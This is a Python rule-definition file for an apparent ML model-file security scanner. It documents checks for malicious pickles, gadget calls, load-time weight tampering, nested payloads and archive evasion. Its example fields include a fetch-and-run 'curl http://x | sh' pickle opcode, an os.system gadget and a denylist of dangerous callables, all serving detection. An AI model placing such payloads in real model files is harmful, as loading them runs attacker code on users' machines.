"""MLS2xx: what a serialized model file would do when loaded."""

from __future__ import annotations

from mlscan.model import Confidence, Rule, RuleDoc, Severity
from mlscan.registry import register

_PICKLE_REFS = (
    "https://docs.python.org/3/library/pickle.html#restricting-globals",
    "https://pytorch.org/docs/stable/generated/torch.load.html",
)

PICKLE_DANGEROUS_GLOBAL = register(
    Rule(
        code="MLS201",
        name="pickle-dangerous-global",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        summary="Pickle imports or calls a known-dangerous callable (code execution on load).",
        cwe=502,
        doc=RuleDoc(
            what="Flags a pickle stream (raw, inside a PyTorch/joblib/numpy container or an "
            "archive) that imports a callable on mlscan's denylist: process execution (os, "
            "posix, subprocess, pty), code evaluation (builtins.eval/exec/compile, runpy, "
            "code), importers and resolvers (importlib, pkgutil.resolve_name, pydoc.locate), "
            "networking, file writes, nested loaders (pickle.loads, torch.load) and debuggers.",
            why="Unpickling calls any global the stream names. A denylisted global in a model "
            "file means loading it runs attacker-chosen code: reverse shells and credential "
            "theft found on public model hubs look exactly like this.",
            example="REDUCE posix.system ('curl http://x | sh',)   # torch.save of an object "
            "whose __reduce__ returns (os.system, (...))",
            use_instead="Do not load the file. Ask for safetensors weights, or load with "
            "torch.load(path, weights_only=True) which refuses non-allowlisted globals.",
            references=_PICKLE_REFS,
        ),
    )
)

PICKLE_UNKNOWN_CALL = register(
    Rule(
        code="MLS202",
        name="pickle-unknown-call",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        summary="Pickle calls a callable that is not on the data-constructor allowlist.",
        cwe=502,
        doc=RuleDoc(
            what="Flags a global that the pickle calls (REDUCE, INST, OBJ) and that is neither "
            "a known data constructor (torch rebuild functions, numpy reconstruct, "
            "collections, datetime, scikit-learn helpers...) nor a known-dangerous callable.",
            why="Every call in a pickle runs with the loader's privileges. Denylists are "
            "always incomplete (each public scanner bypass was a missing entry), so mlscan "
            "reports every call it cannot prove to be a data constructor.",
            example="REDUCE some_pkg.utils.run_hook ('payload',)",
            use_instead="If the callable is a legitimate data constructor of your library, "
            "add its exact `module.qualname` to `extend-pickle-allowlist` in [tool.mlscan].",
            references=_PICKLE_REFS,
        ),
    )
)

PICKLE_UNKNOWN_IMPORT = register(
    Rule(
        code="MLS203",
        name="pickle-unknown-import",
        severity=Severity.MEDIUM,
        confidence=Confidence.MEDIUM,
        summary="Pickle imports a global that is not allowlisted and never visibly uses it.",
        cwe=502,
        doc=RuleDoc(
            what="Flags a global the stream imports (GLOBAL, STACK_GLOBAL) that is not "
            "allowlisted and whose use mlscan could not see (stored, passed as data).",
            why="Importing a module runs its top-level code, and an imported callable passed "
            "along as data can be called later by a gadget. Nothing unknown is left silent.",
            example="GLOBAL 'mylib.hooks' 'Hook'  (then stored in a dict)",
            use_instead="Allowlist the exact name if it is a known data type of your project.",
            references=_PICKLE_REFS,
        ),
    )
)

PICKLE_UNKNOWN_CLASS = register(
    Rule(
        code="MLS204",
        name="pickle-unknown-class",
        severity=Severity.LOW,
        confidence=Confidence.MEDIUM,
        summary="Pickle rebuilds an instance of a class that is not allowlisted (NEWOBJ+BUILD).",
        cwe=502,
        doc=RuleDoc(
            what="Reports a class that the pickle only instantiates without calling its "
            "constructor (NEWOBJ, copyreg._reconstructor) and restores with BUILD. This is how "
            "whole `nn.Module`s and user classes such as `__main__.Net` are saved.",
            why="Loading needs the class's code and runs its `__setstate__`; the file cannot "
            "be loaded with weights_only=True. Usually benign, reported so nothing is hidden.",
            example="torch.save(model)  # instead of torch.save(model.state_dict())",
            use_instead="Save `model.state_dict()` (or safetensors) and rebuild the module in "
            "code.",
            references=_PICKLE_REFS,
        ),
    )
)

PICKLE_DYNAMIC_CALL = register(
    Rule(
        code="MLS205",
        name="pickle-gadget-call",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        summary="Pickle calls through a gadget (partial, attrgetter, getattr, a call's result) "
        "whose target is dangerous or cannot be resolved statically.",
        cwe=502,
        doc=RuleDoc(
            what="Follows gadgets that turn data into calls: functools.partial, "
            "operator.attrgetter/itemgetter/methodcaller, builtins.getattr, copyreg helpers, "
            "and calling the result of another call. The finding names what the gadget ends up "
            "calling; gadgets over allowlisted data constructors stay quiet.",
            why="Gadgets let a pickle reach any function without naming it as a global, the "
            "way `pkgutil.resolve_name`- and `getattr`-style payloads bypassed denylist "
            "scanners.",
            example="REDUCE builtins.getattr (importlib.import_module('os'), 'system')",
            use_instead="Do not load the file; ask for safetensors weights.",
            references=_PICKLE_REFS,
        ),
    )
)

PICKLE_MODEL_TAMPERING = register(
    Rule(
        code="MLS206",
        name="pickle-model-tampering",
        severity=Severity.CRITICAL,
        confidence=Confidence.HIGH,
        summary="Pickle changes the model while loading (in-place tensor op, setattr, hooks).",
        cwe=502,
        doc=RuleDoc(
            what="Flags calls at load time that alter loaded objects: in-place tensor "
            "operations (`add_`, `mul_`, `copy_`...), `setattr`, `register_*hook`, "
            "`load_state_dict`, module `__setattr__`.",
            why="A 'sleepy pickle' needs no os or subprocess import: it silently changes "
            "weights or installs hooks that alter outputs, so results become wrong and "
            "irreproducible.",
            example="REDUCE torch.Tensor.mul_ (weight, -1.0)",
            use_instead="Do not load the file; compare weights against a trusted source.",
            references=_PICKLE_REFS,
        ),
    )
)

NESTED_PAYLOAD = register(
    Rule(
        code="MLS207",
        name="embedded-serialized-payload",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        summary="Bytes inside a pickle are themselves a pickle or archive that a loader may open.",
        cwe=502,
        doc=RuleDoc(
            what="Reports a bytes value in a pickle stream that is itself a pickle, zip or "
            "compressed stream; its contents are scanned recursively and findings are reported "
            "with the nested member path (`outer!inner`).",
            why="Nesting hides payloads from scanners that stop at the first layer; the outer "
            "pickle then hands the bytes to `pickle.loads` or `torch.load`.",
            example="REDUCE _pickle.loads (b'\\x80\\x04...posix.system...',)",
            use_instead="Do not load the file.",
            references=_PICKLE_REFS,
        ),
    )
)

CONTAINER_EVASION = register(
    Rule(
        code="MLS210",
        name="container-anomaly",
        severity=Severity.HIGH,
        confidence=Confidence.MEDIUM,
        summary="Archive structure that loaders accept but scanners misread (zip tricks, 7z).",
        cwe=693,
        doc=RuleDoc(
            what="Flags archive features used to slip past scanners: zip entries whose local "
            "header name differs from the central directory, duplicate names, bad CRCs, odd "
            "flag bits, data hidden before or between entries, and models packed with 7z "
            "(the 'nullifAI' technique).",
            why="A scanner that reads archives more strictly than the loader reports such "
            "files clean while the loader still executes them. mlscan reads them leniently and "
            "reports the anomaly itself.",
            example="A PyTorch .pt whose data.pkl has a wrong CRC and the encrypted flag set.",
            use_instead="Re-export the model with the framework's own save function.",
            references=("https://pkware.cachefly.net/webdocs/casestudies/APPNOTE.TXT",),
        ),
    )
)

FORMAT_MISMATCH = register(
    Rule(
        code="MLS211",
        name="format-extension-mismatch",
        severity=Severity.HIGH,
        confidence=Confidence.HIGH,
        summary="File content is an executable format (pickle) but its name claims a safe one.",
        cwe=434,
        doc=RuleDoc(
            what="Compares the format detected from magic bytes with the file extension and "
            "flags pickles or pickle archives named like data-only formats (`.safetensors`, "
            "`.gguf`, `.onnx`, `.json`, `.txt`, images).",
            why="Users and tools choose a loader, and decide whether to scan, by extension. A "
            "pickle named `model.safetensors` is a disguise.",
            example="model.safetensors that starts with b'\\x80\\x04'",
            use_instead="Do not load the file.",
        ),
    )
)
